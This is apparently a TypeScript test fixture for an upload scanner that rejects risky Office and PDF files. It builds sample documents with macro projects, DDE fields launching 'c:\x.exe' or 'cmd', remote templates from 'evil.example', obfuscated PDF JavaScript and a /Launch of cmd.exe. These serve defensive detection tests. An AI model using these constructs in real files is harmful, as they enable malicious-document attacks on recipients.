import { deflateSync } from 'node:zlib';
import { toTestCfb } from './test-cfb.ts';
import { toTestZip, type ZipPart } from './test-zip.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';
const SPREAD = '<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\\\x.exe</w:instrText>';

export const toTestPackage = (...parts: ZipPart[]): Buffer =>
  toTestZip([['[Content_Types].xml', '<Types/>'], ['word/document.xml', '<w:document/>'], 'xl/workbook.xml', ...parts]);

const relation = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="r1" Type="${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const template = (target: string): Buffer =>
  toTestPackage(['word/_rels/settings.xml.rels', relation(`${OFFICE}/attachedTemplate`, target)]);
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

const record = (kind: number, content: Buffer): Buffer => {
  const head = Buffer.alloc(4);
  head.writeUInt16LE(kind, 0);
  head.writeUInt16LE(content.length, 2);
  return Buffer.concat([head, content]);
};
const book = (...records: Buffer[]): Buffer => Buffer.concat([record(0x0809, Buffer.alloc(16)), ...records, record(0x0a, Buffer.alloc(0))]);
const sheet = (kind: number): Buffer => record(0x85, Buffer.from([0, 0, 0, 0, 0, kind, 1, 0, 0x41]));
const slides = (hasMacros: number): Buffer =>
  Buffer.concat([Buffer.alloc(4_500), Buffer.from('020000040c00000003000000', 'hex'), Buffer.from([hasMacros, 0, 0, 0]), Buffer.alloc(40)]);
const lockedText = Buffer.alloc(4_200);
lockedText.writeUInt16LE(0x0100, 10);

/** A small PDF with these objects. */
export const toTestPdf = (...objects: (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n'),
    ...objects.map((text) => Buffer.from(text)),
    Buffer.from('\n%%EOF'),
  ]);

/** Objects packed in a stream, as PDF 1.5 keeps them. */
export const toPackedObjects = (objects: string, head = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode'): Buffer => {
  const packed = deflateSync(`7 0 ${objects}`);
  return Buffer.concat([
    Buffer.from(`6 0 obj\n<<${head}/Length ${packed.length}>>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
};
const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';

export const MACROS = '文件里带有宏或脚本，请另存为不含宏的文件再上传';
export const EMBEDDED = '文件里嵌有其他文件或控件，请去掉后另存再上传';
export const REMOTE = '文件会从别处载入模板或数据，请断开链接后另存再上传';
export const LOCKED = '文件设有密码或加密，无法检查，请取消密码后另存再上传';
export const UNREADABLE = '文件内容不完整或过大，无法检查，请重新另存后再上传';

/** Documents that are what their names say and must still not reach an institution: what is wrong, the name, the content, the sentence. */
export const ACTIVE_FILES: readonly (readonly [string, string, Buffer, string])[] = [
  ['a macro project', 'a.docx', toTestPackage(['word/vbaProject.bin', 'x']), MACROS],
  ['a macro project in capitals', 'a.xlsx', toTestPackage(['xl/VBAPROJECT.BIN', 'x']), MACROS],
  ['a macro project behind a backslash', 'a.docx', toTestPackage(['word\\vbaProject.bin', 'x']), MACROS],
  [
    'a macro project under another name',
    'a.docx',
    toTestPackage(['word/_rels/document.xml.rels', relation(`${MICROSOFT}/vbaProject`, 'x.bin', 'Internal')]),
    MACROS,
  ],
  [
    'the type of documents with macros',
    'a.docx',
    toTestZip([
      ['[Content_Types].xml', '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'],
      'word/document.xml',
    ]),
    MACROS,
  ],
  [
    'the same in UTF-16',
    'a.xlsx',
    toTestZip([['[Content_Types].xml', utf16('<O T="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>')], 'xl/workbook.xml']),
    MACROS,
  ],
  ['a sheet of Excel 4 macros', 'a.xlsx', toTestPackage(['xl/macrosheets/sheet1.xml', 'x']), MACROS],
  ['a control', 'a.docx', toTestPackage(['word/activeX/activeX1.bin', 'x']), MACROS],
  ['a DDE field', 'a.docx', toTestPackage(['word/header1.xml', '<w:fldSimple w:instr=" DDE excel &quot;x&quot;"/>']), MACROS],
  ['a DDE field in pieces', 'a.docx', toTestPackage(['word/footer1.xml', SPREAD]), MACROS],
  ['a DDE link', 'a.xlsx', toTestPackage(['xl/externalLinks/externalLink1.xml', '<ddeLink ddeService="cmd"/>']), MACROS],
  ['an embedded object', 'a.docx', toTestPackage(['word/embeddings/oleObject1.bin', 'x']), EMBEDDED],
  ['an embedded document of the old kind', 'a.pptx', toTestPackage(['ppt/presentation.xml', 'x'], ['ppt/embeddings/a.xls', 'x']), EMBEDDED],
  [
    'macros of an embedded workbook',
    'a.docx',
    toTestPackage(['word/embeddings/a.xlsx', toTestPackage(['xl/vbaProject.bin', 'x'])]),
    MACROS,
  ],
  ['a template from the net', 'a.docx', template('https://evil.example/a.dotm'), REMOTE],
  ['a template from the net, escaped', 'a.docx', template('&#x68;ttp://evil.example/a.dotm'), REMOTE],
  ['a template from another machine', 'a.docx', template('file:///\\\\evil.example\\a.dotm'), REMOTE],
  ['a template beside a false type', 'a.docx', template("https://evil.example/ Type='hyperlink'"), REMOTE],
  [
    'an object from the net',
    'a.docx',
    toTestPackage(['word/_rels/document.xml.rels', relation(`${OFFICE}/oleObject`, 'mhtml:x!y')]),
    REMOTE,
  ],
  ['a password on one file', 'a.docx', toTestZip(['[Content_Types].xml', 'word/document.xml'], { isEncrypted: true }), LOCKED],
  ['a password on all', 'a.docx', toTestCfb([['EncryptedPackage', Buffer.alloc(5_000)], 'DataSpaces']), LOCKED],
  ['a document type in a part', 'a.docx', toTestPackage(['word/settings.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a/>']), UNREADABLE],
  ['a part that unpacks to more than it says', 'a.docx', toTestPackage(['word/a.xml', ' '.repeat(17 * 1024 * 1024)]), UNREADABLE],
  ['Word macros', 'a.doc', toTestCfb([['WordDocument', Buffer.alloc(5_000)], 'Macros', 'VBA', ['dir', Buffer.alloc(8)]]), MACROS],
  ['Excel macros', 'a.xls', toTestCfb([['Workbook', book(sheet(0))], '_VBA_PROJECT_CUR']), MACROS],
  [
    'a macro project alone',
    'a.ppt',
    toTestCfb([
      ['PowerPoint Document', slides(0)],
      ['_VBA_PROJECT', Buffer.alloc(9)],
    ]),
    MACROS,
  ],
  ['PowerPoint macros', 'a.ppt', toTestCfb([['PowerPoint Document', slides(1)]]), MACROS],
  ['a sheet of Excel 4 macros of old', 'a.xls', toTestCfb([['Workbook', book(sheet(0), sheet(1))]]), MACROS],
  [
    'the same in a large workbook',
    'a.xls',
    toTestCfb([
      ['Book', book(record(0x42, Buffer.alloc(4_000)), record(0x42, Buffer.alloc(4_000)), sheet(1))],
      ['x', Buffer.alloc(9)],
    ]),
    MACROS,
  ],
  [
    'a packaged program',
    'a.doc',
    toTestCfb([['WordDocument', Buffer.alloc(5_000)], 'ObjectPool', ['\u0001Ole10Native', Buffer.alloc(9)]]),
    EMBEDDED,
  ],
  ['a text under a password', 'a.doc', toTestCfb([['WordDocument', lockedText]]), LOCKED],
  ['a workbook under a password', 'a.xls', toTestCfb([['Workbook', book(record(0x2f, Buffer.alloc(54)))]]), LOCKED],
  ['no document at all', 'a.doc', toTestCfb([['Contents', Buffer.alloc(9)]]), UNREADABLE],
  ['a script', 'a.pdf', toTestPdf(`2 0 obj\n<</OpenAction${SCRIPT}>>\nendobj\n`), MACROS],
  ['a script by other letters', 'a.pdf', toTestPdf('2 0 obj\n<</#53/#4a#61vaScript/#4aS 3 0 R>>\nendobj\n'), MACROS],
  ['a script after a remark', 'a.pdf', toTestPdf('2 0 obj\n<</S%x\n/JavaScript/J#53 3 0 R>>\nendobj\n'), MACROS],
  ['a script in packed objects', 'a.pdf', toTestPdf(toPackedObjects(SCRIPT)), MACROS],
  ['a script in packed objects that do not say so', 'a.pdf', toTestPdf(toPackedObjects(SCRIPT, '/X(\nstream\n)/Type 9 0 R')), MACROS],
  ['a script far into packed objects', 'a.pdf', toTestPdf(toPackedObjects(`${'(x) '.repeat(100_000)}${SCRIPT}`)), MACROS],
  [
    'a script in objects packed in an odd way',
    'a.pdf',
    toTestPdf(toPackedObjects(SCRIPT, '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]')),
    MACROS,
  ],
  [
    'objects packed in a way that is not looked into',
    'a.pdf',
    toTestPdf('6 0 obj\n<</Type/ObjStm/Filter/LZWDecode>>\nstream\nxx\nendstream'),
    UNREADABLE,
  ],
  ['a program to start', 'a.pdf', toTestPdf('2 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n'), MACROS],
  ['an attachment', 'a.pdf', toTestPdf('2 0 obj\n<</Type/EmbeddedFile>>\nstream\nx\nendstream\nendobj\n'), EMBEDDED],
  ['media', 'a.pdf', toTestPdf('2 0 obj\n<</Type/Annot/Subtype/RichMedia>>\nendobj\n'), EMBEDDED],
  ['a password', 'a.pdf', toTestPdf('trailer\n<</Root 1 0 R/Encrypt 5 0 R>>'), LOCKED],
];

/** Documents with what ordinary ones have. */
export const HARMLESS_FILES: readonly (readonly [string, string, Buffer])[] = [
  [
    'links, also to addresses that end like a name',
    'a.pdf',
    toTestPdf('2 0 obj\n<</S/URI/URI(https://a.example/Web/JavaScript)>>\nendobj\n'),
  ],
  ['bookmarks and a going to a page', 'a.pdf', toTestPdf('2 0 obj\n<</OpenAction<</S/GoTo/D[1 0 R/Fit]>>/First 3 0 R>>\nendobj\n')],
  ['packed objects', 'a.pdf', toTestPdf(toPackedObjects('<</Type/Page/Annots[<</S/URI/URI(https://a.example/JS)>>]>>'))],
  [
    'a workbook behind a chart',
    'a.docx',
    toTestPackage(['word/embeddings/Microsoft_Excel_Sheet1.xlsx', toTestPackage(['xl/printerSettings/printerSettings1.bin', 'x'])]),
  ],
  ['the template of its own machine', 'a.docx', template('file:///C:\\Users\\a\\Templates\\Normal.dotm')],
  ['hyperlinks', 'a.docx', toTestPackage(['word/_rels/document.xml.rels', relation(`${OFFICE}/hyperlink`, 'https://a.example/')])],
  ['fields', 'a.docx', toTestPackage(['word/footer1.xml', '<w:instrText> PAGE </w:instrText><w:t>DDE DDEAUTO</w:t>'])],
  ['an empty pool of objects', 'a.doc', toTestCfb([['WordDocument', Buffer.from('Macros VBA'.padEnd(5_000), 'utf16le')], 'ObjectPool'])],
  ['sheets', 'a.xls', toTestCfb([['Workbook', book(sheet(0), sheet(2))]])],
  [
    'slides',
    'a.ppt',
    toTestCfb([
      ['PowerPoint Document', slides(0)],
      ['Current User', Buffer.alloc(40)],
    ]),
  ],
];
